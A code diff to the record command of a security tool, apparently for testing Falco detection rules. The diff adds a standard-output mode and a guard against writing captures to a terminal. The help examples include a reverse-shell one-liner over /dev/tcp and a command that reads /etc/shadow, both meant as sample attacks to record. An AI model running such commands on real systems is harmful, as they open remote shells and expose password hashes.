@@ -4,6 +4,7 @@ import { Complaints } from './complaints.ts';
 import { EXIT } from './exit.ts';
 import { readSnaplen } from './flags.ts';
 import { grouped, ProgressBar } from './progress.ts';
+import { NOT_FOR_TERMINALS } from './terminal.ts';
 
 interface Flags {
   readonly output: string;
@@ -23,12 +24,13 @@ Examples:
   $ tiercel record -o attack.scap -- bash attack.sh
   $ tiercel record --no-env -o attack.scap.gz -- bash -c 'exec 5<>/dev/tcp/127.0.0.1/4444; sh <&5 >&5 2>&5'
   $ tiercel record -o attack.scap --container nginx:1.27 -- sh -c 'cat /etc/shadow'
+  $ tiercel record -q -o - -- sh attack.sh | tiercel replay - -r falco_rules.yaml
   $ tiercel record -o attack.jsonl --keep-log attack.strace -- ./attack --fast
 
 The command runs under strace: no root, no driver, no Falco; it works in a container and in CI. The capture has the current schema, as
 Falco 0.44 writes it, so that rules can be tested with the attack itself: with tiercel, or with Falco (engine.kind=replay).
 It begins with the processes that the command descends from (without tiercel and strace), the users and the groups of the machine, and ends
-when the command and everything that it started have ended.
+when the command and everything that it started have ended. With -o -, what the command prints goes to standard error.
 
 strace must be installed: apt-get install strace, dnf install strace or apk add strace.
 What it cannot see, and how close the rest comes to a recording of Falco's own: docs/how-to/record-a-command.md.
@@ -46,7 +48,11 @@ export function recordCommand(): Command {
     .argument('<command>', 'the command to run, after "--"')
     .argument('[arguments...]', 'its arguments')
     .passThroughOptions()
-    .option('-o, --output <file>', 'file to write: .scap or .jsonl, and .gz', 'recording.scap')
+    .option(
+      '-o, --output <file>',
+      'file to write: .scap or .jsonl, and .gz; or "-" for standard output',
+      'recording.scap',
+    )
     .option('--container <image>', 'for rules: as if in a container of this image, wherever it really runs')
     .option(
       '--keep-log <file>',
@@ -69,6 +75,10 @@ export function recordCommand(): Command {
 async function run(command: string, args: readonly string[], flags: Flags): Promise<number> {
   const bar = new ProgressBar(process.stderr);
   const complaints = new Complaints(bar);
+  if (flags.output === '-' && process.stdout.isTTY) {
+    complaints.tell(NOT_FOR_TERMINALS);
+    return EXIT.couldNotRun;
+  }
   const result = await record({
     command,
     args,
@@ -91,6 +101,6 @@ function summaryJson({ events, created, code }: RecordResult): string {
 function summaryText({ events, created, code }: RecordResult, command: string, output: string): string {
   const ended = `${command} ended with exit code ${code}`;
   return created
-    ? `${ended}; ${grouped(events)} events written to ${output}`
+    ? `${ended}; ${grouped(events)} events written to ${output === '-' ? 'standard output' : output}`
     : `${ended}; nothing was written`;
 }
